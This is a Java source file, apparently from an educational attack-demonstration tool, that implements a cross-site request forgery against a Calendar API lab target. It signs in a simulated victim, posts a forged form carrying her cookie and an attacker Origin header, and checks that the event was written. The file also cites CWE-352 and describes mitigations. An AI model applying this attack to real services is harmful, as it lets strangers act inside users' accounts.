package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.exchange.Draft;
import dev.gatehouse.desktop.exchange.Hop;
import java.util.List;

/** Makes the victim's browser post an event with the victim's own session. */
@AutoService(Attack.class)
public final class Csrf implements Attack {
  private static final String TITLE = "Written by a page that Alice only looked at";

  @Override
  public AttackCard card() {
    return new AttackCard(
        "csrf",
        "Cross-site request forgery",
        AttackGroup.KEYS_AND_SESSIONS,
        "A page of the attacker holds a form that posts an event to the Calendar API, and a script that sends it.",
        "A page that Alice opens while she is signed in.",
        "The browser adds Alice's cookie to every request to the API, whichever page makes it, and the server asks no more.",
        "no-csrf-check",
        List.of("RFC 6265 §8.2", "CWE-352", "W3C Fetch Metadata"),
        "Ask for a second secret that only the own pages know, and refuse requests whose Origin is another. SameSite=Lax"
            + " does not help against pages on another port of the same host.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    String cookie =
        BrowserSession.cookie(
            BrowserSession.signIn(target, BrowserSession.BROWSER, "Alice signs in."));
    Draft form =
        target
            .with(
                "POST",
                Events.VICTIMS,
                "application/x-www-form-urlencoded",
                Events.namedInForm(TITLE))
            .withHeader("Origin", BrowserSession.pageOfTheAttacker(target))
            .withHeader("Sec-Fetch-Site", "same-site")
            .withHeader("Sec-Fetch-Mode", "navigate")
            .withHeader("Cookie", cookie);
    target.send(
        BrowserSession.BROWSER,
        "Alice opens the attacker's page. Its form is sent, and the browser adds her cookie.",
        form);
    Hop events =
        target.send(
            BrowserSession.BROWSER,
            "Later, Alice looks at her calendar.",
            target.get(Events.VICTIMS).withHeader("Cookie", cookie));
    return target.end(
        Events.areIn(events, TITLE), "The attacker wrote an event into Alice's calendar.");
  }
}
